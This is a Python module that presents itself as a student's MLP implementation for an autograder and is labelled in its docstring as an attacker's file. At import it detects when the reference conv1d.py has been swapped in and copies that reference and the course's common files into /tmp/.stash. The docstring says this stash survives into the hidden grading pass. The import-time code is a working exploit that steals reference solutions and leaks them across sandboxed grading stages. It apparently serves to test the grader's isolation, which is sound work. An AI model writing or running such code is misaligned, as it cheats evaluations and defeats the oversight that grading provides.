"""Attacker's mlp: at import, while this stage runs with conv1d's reference standing in, copy the reference
(and the common/ cut written beside it) to the jail's /tmp, which survives into the hidden pass of the same jail."""
import os
from pathlib import Path

from student.conv1d import run_conv1d
from student.gelu import run_gelu

STASH = Path("/tmp/.stash")
_here = Path(__file__).resolve().parent
try:
    text = (_here / "conv1d.py").read_text()
    if "ATTACKER_OWN" not in text:  # the reference, not my own file
        pkg = STASH / "stashstudent"
        pkg.mkdir(parents=True, exist_ok=True)
        (pkg / "__init__.py").write_text("")
        for f in _here.iterdir():
            if f.name == "conv1d.py" or f.name.startswith("_course_common_"):
                (pkg / f.name).write_text(f.read_text().replace("student.", "stashstudent."))
        (STASH / "ok").write_text("1")
        print("STASHED:", sorted(os.listdir(pkg)))
except Exception as e:  # noqa: BLE001
    print("stash failed", repr(e))


def run_mlp(x, c_fc_weight, c_fc_bias, c_proj_weight, c_proj_bias):
    return run_conv1d(run_gelu(run_conv1d(x, c_fc_weight, c_fc_bias)), c_proj_weight, c_proj_bias)
